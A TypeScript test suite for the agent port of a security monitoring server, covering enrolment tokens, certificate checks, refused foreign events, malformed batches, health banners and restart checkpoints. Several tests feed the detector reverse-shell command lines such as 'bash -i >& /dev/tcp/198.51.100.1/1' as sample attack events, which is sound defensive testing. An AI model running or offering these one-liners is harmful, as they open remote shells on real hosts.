/** The port of agents, over real TLS: who may speak for whom, what is refused, what is never lost. */
import assert from 'node:assert/strict'
import { readFileSync, rmSync, statSync, truncateSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, before, test } from 'node:test'
import { setTimeout as wait } from 'node:timers/promises'
import { formatEnrolmentToken, parseEnrolmentToken } from '@rampart/api'
import { pack } from 'msgpackr'
import { enrolAgent, makeRequest, post, TestAgent } from '../testing/test-agent.ts'
import { TestConsole } from '../testing/test-console.ts'
import { startTestServer, type TestServer } from '../testing/test-server.ts'

let shared: TestServer
let browser: TestConsole
before(async () => {
  shared = await startTestServer()
  browser = new TestConsole(shared.server.consoleUrl)
  await browser.begin(shared.server.firstUser ?? { name: '', password: '' })
})
after(() => shared?.end())

const token = (uses = 1, minutes = 5) => shared.server.createEnrolmentToken({ uses, minutes }).token
const enrolled = async (machineId?: string) => new TestAgent(await enrolAgent(token(), machineId))
const alerts = async (query: string) => (await browser.call('listAlerts', { query })).body
const refusedLines = () => {
  try {
    return readFileSync(join(shared.directory, 'state', 'refused-events.ndjson'), 'utf8')
  } catch {
    return ''
  }
}

test('a token works as often as it may, and not after its time', async () => {
  const twice = token(2)
  await enrolAgent(twice)
  await enrolAgent(twice)
  await assert.rejects(enrolAgent(twice), /enrolment.bad-token/)
  await assert.rejects(enrolAgent(shared.server.createEnrolmentToken({ minutes: 0 }).token), /enrolment.bad-token/)
  const parsed = parseEnrolmentToken(token())
  assert.ok(parsed.ok)
  const forged = formatEnrolmentToken({ ...parsed.token, secret: 'x'.repeat(32) })
  await assert.rejects(enrolAgent(forged), /enrolment.bad-token/)
})

test('a request that is none costs the token nothing', async () => {
  const good = token()
  const url = `${shared.server.agentUrl}/enrol`
  const host = { name: 'web-1', machineId: 'm' }
  const answers = [
    await post(url, { token: good, certificateRequest: 'nonsense', host }),
    await post(url, {
      token: good,
      certificateRequest: (await makeRequest()).certificateRequest.replace(/[A-Z]/, '0'),
      host,
    }),
    await post(url, { token: good }),
    await post(url, { token: good, certificateRequest: 'x'.repeat(70_000), host }),
    await post(`${shared.server.agentUrl}/elsewhere`, {}),
  ]
  assert.deepEqual(
    answers.map((answer) => [answer.status, answer.body.code]),
    [
      [400, 'enrolment.invalid-request'],
      [400, 'enrolment.invalid-request'],
      [400, 'enrolment.invalid-body'],
      [400, 'enrolment.invalid-body'],
      [404, 'request.not-found'],
    ],
  )
  await enrolAgent(good)
})

test('keys and the state directory are private', () => {
  const state = join(shared.directory, 'state')
  assert.equal(statSync(state).mode & 0o777, 0o700)
  for (const file of ['authority.key', 'authority.pem', 'server.key'])
    assert.equal(statSync(join(state, 'authority', file)).mode & 0o777, 0o600, file)
  assert.equal(statSync(join(state, 'rampart.db')).mode & 0o777, 0o600)
})

test('without a certificate, with a foreign one, or with one taken back nobody gets in', async (t) => {
  const agent = await enrolled()
  const nobody = new TestAgent({ ...agent.enrolment, certificate: '', key: '' })
  await assert.rejects(nobody.connect(), /401/)

  const elsewhere = await startTestServer()

  t.after(elsewhere.end)
  const foreign = await enrolAgent(elsewhere.server.createEnrolmentToken().token)
  const stranger = new TestAgent({ ...foreign, authority: agent.enrolment.authority, server: agent.enrolment.server })
  await assert.rejects(stranger.connect(), /401/)

  const first = await enrolled('machine-that-enrols-again')
  const second = await enrolled('machine-that-enrols-again')
  assert.equal(second.enrolment.assetId, first.enrolment.assetId)
  await assert.rejects(first.connect(), /401/)
  await second.connect()
  // The agent is connected: whoever enrols now with the same machine id is a copy.
  const copy = await enrolled('machine-that-enrols-again')
  assert.notEqual(copy.enrolment.assetId, second.enrolment.assetId)
  second.cut()
})

test('an agent speaks for its own asset only; what is refused is counted and kept, the rest goes on', async () => {
  const mine = await enrolled()
  const other = await enrolled()
  await mine.connect()
  const attack = 'bash -i >& /dev/tcp/198.51.100.1/1'
  await mine.deliver(1, [
    other.started(1, attack),
    { ...mine.started(2, attack), id: `${other.enrolment.assetId}/boot-1/2` },
    { ...mine.started(3, attack), type: 'process.danced' },
    { ...mine.started(4, attack), at: 'yesterday' },
    'not an event',
    mine.started(5, attack),
  ])
  assert.equal((await alerts(`asset=${other.enrolment.assetId}`)).total, 0)
  assert.equal((await alerts(`asset=${mine.enrolment.assetId}`)).items[0].count, 1)
  for (const code of ['foreign-asset', 'foreign-id', 'unknown-type', 'invalid-field', 'not-an-object'])
    assert.match(refusedLines(), new RegExp(`"code":"event.${code}"`))
  const metrics = (await browser.fetch('GET', '/metrics')).body
  assert.match(metrics, /rampart_events_refused_total\{code="event.foreign-asset"\} 1/)
  mine.cut()
})

test('an agent may tell of hosts below its own id; they are listed in its group, others are refused', async () => {
  const mine = await enrolled()
  const other = await enrolled()
  await mine.connect()
  const below = (id: string, number: number, name = 'db-1') => ({
    ...mine.started(number, 'bash -i >& /dev/tcp/198.51.100.1/1'),
    id: `${id}/received-1/${number}`,
    asset: { id, name, kind: 'host' },
  })
  const host = `${mine.enrolment.assetId}~0123456789abcdef`
  const before = refusedLines().split('"code":"event.foreign-asset"').length
  await mine.deliver(1, [
    below(host, 1),
    below(`${other.enrolment.assetId}~0123456789abcdef`, 2),
    below(`${mine.enrolment.assetId}~0123456789abcdef~0123456789abcdef`, 3),
    below(`${mine.enrolment.assetId}~../x`, 4),
    below(`${mine.enrolment.assetId}0123456789abcdef`, 5),
    { ...below(host, 6), id: `${mine.enrolment.assetId}/received-1/6` },
  ])
  assert.equal(refusedLines().split('"code":"event.foreign-asset"').length - before, 4)
  const listed = (await browser.fetch('GET', `/api/v1/assets/${encodeURIComponent(host)}`)).body
  assert.deepEqual([listed.name, listed.agent.state, listed.group], ['db-1', 'never connected', null])
  assert.deepEqual(listed.receivedBy, { id: mine.enrolment.assetId, name: 'web-1' })
  assert.equal((await alerts(`asset=${encodeURIComponent(host)}`)).items[0].count, 1)
  mine.cut()
})

test('a batch that cannot be read is set aside and does not stop the next one', async () => {
  const agent = await enrolled()
  await agent.connect()
  agent.send({ type: 'batch', sequence: 1, events: 1, payload: new Uint8Array([1, 2, 3]) })
  await agent.until(() => agent.acknowledged === 1)
  await agent.deliver(2, [agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/2')])
  assert.equal((await alerts(`asset=${agent.enrolment.assetId}`)).total, 1)
  assert.match(refusedLines(), /"code":"batch.not-zstd"/)
  agent.cut()
})

test('a batch that comes twice is acknowledged without effect', async () => {
  const agent = await enrolled()
  await agent.connect()
  const events = [agent.started(1, 'bash -i >& /dev/tcp/198.51.100.1/3')]
  await agent.deliver(1, events)
  agent.sendBatch(1, events)
  await agent.deliver(2, [agent.started(2, 'ls')])
  agent.cut()
  await agent.connect()
  assert.equal(agent.acknowledged, 2)
  const acknowledgements = agent.received.filter((message) => message.type === 'acknowledge').length
  agent.sendBatch(1, events)
  await agent.until(() => agent.received.filter((message) => message.type === 'acknowledge').length > acknowledgements)
  const [row] = (await alerts(`asset=${agent.enrolment.assetId}`)).items
  assert.equal(row.count, 1)
  const asset = (await browser.call('getAsset', { id: agent.enrolment.assetId })).body
  assert.equal(asset.eventsReceived, 2)
  // A new spool begins anew.
  const fresh = new TestAgent(agent.enrolment, 'spool-2')
  await fresh.connect()
  assert.equal(fresh.acknowledged, 0)
  await fresh.deliver(1, [fresh.started(3, 'bash -i >& /dev/tcp/198.51.100.1/3')])
  fresh.cut()
  assert.equal((await alerts(`asset=${agent.enrolment.assetId}`)).items[0].count, 2)
})

test('messages that are not of the protocol end the connection', async () => {
  const agent = await enrolled()
  for (const bytes of [
    Buffer.from('hello'),
    pack({ type: 'dance' }),
    pack({ type: 'batch', sequence: 1, events: 1, payload: Buffer.alloc(1) }),
    Buffer.from([0xdd, 0xff, 0xff, 0xff, 0xff]),
    Buffer.from([0xc7, 0x01, 0x72, 0x01]),
  ]) {
    await agent.connect(false)
    agent.sendBytes(bytes)
    assert.equal(await agent.closed(), 4400)
  }
  await agent.connect(false)
  const host = { name: 'web-1', addresses: [], operatingSystem: '', kernel: '' }
  agent.send({ type: 'hello', protocol: 99, agentVersion: '1', bootId: 'b', spoolId: 's', host })
  assert.equal(await agent.closed(), 4400)
})

test('a second connection with the same certificate takes over from the first', async () => {
  const one = await enrolled()
  await one.connect()
  const two = new TestAgent(one.enrolment)
  await two.connect()
  assert.equal(await one.closed(), 4409)
  await two.deliver(1, [two.started(1, 'ls')])
  assert.equal((await browser.call('getAsset', { id: one.enrolment.assetId })).body.agent.state, 'online')
  two.cut()
})

test('silence raises an alert, coming back mends the state, a goodbye raises none', async (t) => {
  const own = await startTestServer({ silentAfterMs: 1500, heartbeatMs: 1000 })
  t.after(own.end)
  const browser = new TestConsole(own.server.consoleUrl)
  await browser.begin(own.server.firstUser ?? { name: '', password: '' })
  const alerts = async (query: string) => (await browser.call('listAlerts', { query })).body
  const agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
  await agent.connect()
  const id = agent.enrolment.assetId
  const state = async () => (await browser.call('getAsset', { id })).body.agent.state
  agent.cut()
  await wait(300)
  assert.equal(await state(), 'offline')
  const end = Date.now() + 20_000
  while ((await alerts(`asset=${id}&type=Other`)).total === 0 && Date.now() < end) await wait(50)
  const [row] = (await alerts(`asset=${id}&type=Other`)).items
  assert.equal(row.title, 'Agent silent')
  assert.equal(await state(), 'silent')
  assert.match(
    (await browser.call('getAlert', { id: row.id })).body.summary,
    /^The agent of web-1 is silent, nothing was heard for \d+ seconds\.$/,
  )
  const banners = (await browser.call('listBanners')).body.items
  assert.ok(
    banners.some(
      (banner: { asset: { id: string } | null; subject: string }) =>
        banner.asset?.id === id && banner.subject === 'agent',
    ),
  )
  await agent.connect()
  assert.equal(await state(), 'online')
  agent.send({ type: 'stopping', reason: 'the host shuts down' })
  agent.cut()
  await wait(2200)
  assert.equal(await state(), 'offline')
  assert.equal((await alerts(`asset=${id}&type=Other`)).items[0].count, 1)
})

test('health is shown: sensors, losses, banners', async () => {
  const agent = await enrolled()
  await agent.connect()
  agent.health({
    sensors: [
      {
        sensor: 'ebpf.process',
        state: 'unavailable',
        reason: 'not root; start the agent as root',
        eventsSeen: 0,
        eventsLost: 0,
        lostByCause: {},
        capabilities: { 'process.started': { works: false, reason: 'no eBPF' } },
      },
      {
        sensor: 'log.sshd',
        state: 'running',
        eventsSeen: 9,
        eventsLost: 3,
        lostByCause: { 'queue full': 3 },
        capabilities: {},
      },
    ],
    spool: { events: 5, bytes: 900, dropped: { age: 2 } },
  })
  await wait(200)
  const asset = (await browser.call('getAsset', { id: agent.enrolment.assetId })).body
  assert.deepEqual([asset.sensorsUnhealthy, asset.eventsLost, asset.spool.events], [1, 5, 5])
  assert.equal(asset.sensors[0].capabilities['process.started'].reason, 'no eBPF')
  const reasons = (await browser.call('listBanners')).body.items
    .filter((banner: { asset: { id: string } | null }) => banner.asset?.id === agent.enrolment.assetId)
    .map((banner: { reason: string }) => banner.reason)
  assert.deepEqual(reasons.sort(), [
    '3 events were lost (queue full: 3).',
    'The agent dropped events because its spool was full (age: 2).',
    'not root; start the agent as root',
  ])
  agent.cut()
})

test('hostile times and lengths neither stop the pipeline nor the page', async () => {
  const agent = await enrolled()
  await agent.connect()
  const attack = (sequence: number) => agent.started(sequence, `bash -i >& /dev/tcp/198.51.100.1/${sequence}`)
  const odd = attack(2)
  ;(odd.process as { startedAt: number }).startedAt = 1e300
  const long = attack(3)
  Object.assign(long.process as object, {
    commandLine: `/dev/tcp/${'x'.repeat(65_000)}`,
    arguments: new Array(60).fill('y'.repeat(65_000)),
  })
  await agent.deliver(1, [{ ...attack(1), at: 1e300 }, odd, long, { ...attack(4), at: 0 }])
  assert.match(refusedLines(), /"code":"event.impossible-time"/)
  const page = await alerts(`asset=${agent.enrolment.assetId}`)
  assert.equal(page.total, 3)
  for (const { id } of page.items) {
    const detail = await browser.call('getAlert', { id })
    assert.equal(detail.status, 200)
    assert.ok(JSON.stringify(detail.body).length < 700_000)
  }
  agent.cut()
})

test('a certificate is renewed by the agent that has one, and the old one stays good', async () => {
  const agent = await enrolled()
  const url = `${shared.server.agentUrl}/renew`
  const { key, certificateRequest } = await makeRequest('another-asset')
  assert.equal((await post(url, { certificateRequest })).body.code, 'enrolment.no-certificate')
  const answer = await post(
    url,
    { certificateRequest },
    { cert: agent.enrolment.certificate, key: agent.enrolment.key },
  )
  assert.equal(answer.status, 200)
  assert.equal(answer.body.assetId, agent.enrolment.assetId)
  const renewed = new TestAgent({ ...agent.enrolment, certificate: String(answer.body.certificate), key })
  await renewed.connect()
  renewed.cut()
  await agent.connect()
  agent.cut()
})

test('many batches at once are stored in order, and the agent is held back, not cut off', async () => {
  const agent = await enrolled()
  await agent.connect()
  const total = 300
  for (let sequence = 1; sequence <= total; sequence++)
    agent.sendBatch(sequence, [
      agent.started(sequence, sequence === total ? 'cat < /dev/tcp/198.51.100.9/9' : `ls ${sequence}`),
    ])
  await agent.until(() => agent.acknowledged === total, 20_000)
  const order = agent.received.filter((message) => message.type === 'acknowledge').map((message) => message.sequence)
  assert.deepEqual(
    order,
    [...order].sort((one, other) => one - other),
  )
  assert.equal((await alerts(`asset=${agent.enrolment.assetId}`)).total, 1)
  assert.equal((await browser.call('getAsset', { id: agent.enrolment.assetId })).body.eventsReceived, total)
  agent.cut()
})

for (const [case_, prepare] of Object.entries({
  'with a checkpoint': () => {},
  'without one': (checkpoint: string) => rmSync(checkpoint),
  'with one that was cut off': (checkpoint: string) => truncateSync(checkpoint, 20),
  'with one of another archive': (checkpoint: string) => {
    const kept = JSON.parse(readFileSync(checkpoint, 'utf8'))
    writeFileSync(checkpoint, JSON.stringify({ ...kept, position: { segment: 99, offset: 0 } }))
  },
}))
  test(`windows go on across a restart, ${case_}`, async (t) => {
    const own = await startTestServer({ checkpointMs: 50 })
    t.after(own.end)
    const agent = new TestAgent(await enrolAgent(own.server.createEnrolmentToken().token))
    const console_ = new TestConsole(own.server.consoleUrl)
    await console_.begin(own.server.firstUser ?? { name: '', password: '' })
    await agent.connect()
    for (let sequence = 1; sequence <= 9; sequence++)
      await agent.deliver(sequence, [agent.started(sequence, 'count-me')])
    assert.equal((await console_.call('listAlerts')).body.total, 0)
    agent.cut()
    await own.restart(() => prepare(join(own.directory, 'state', 'detector.checkpoint')))
    const after_ = new TestConsole(own.server.consoleUrl)
    await after_.signIn('admin', 'a new and long password')
    const port = new URL(own.server.agentUrl).port
    const again = new TestAgent({ ...agent.enrolment, server: `wss://127.0.0.1:${port}/agent` })
    await again.connect()
    assert.equal(again.acknowledged, 9)
    await again.deliver(10, [again.started(10, 'count-me')])
    const page = (await after_.call('listAlerts')).body
    assert.equal(page.total, 1)
    const detail = (await after_.call('getAlert', { id: page.items[0].id })).body
    assert.equal(detail.evidence.length, 10, 'the whole window, from the archive')
    assert.match(
      detail.summary,
      /ran count-me\. It is the last of 10 events within \d+ (second|minute)s? that belong together\.$/,
    )
    again.cut()
  })
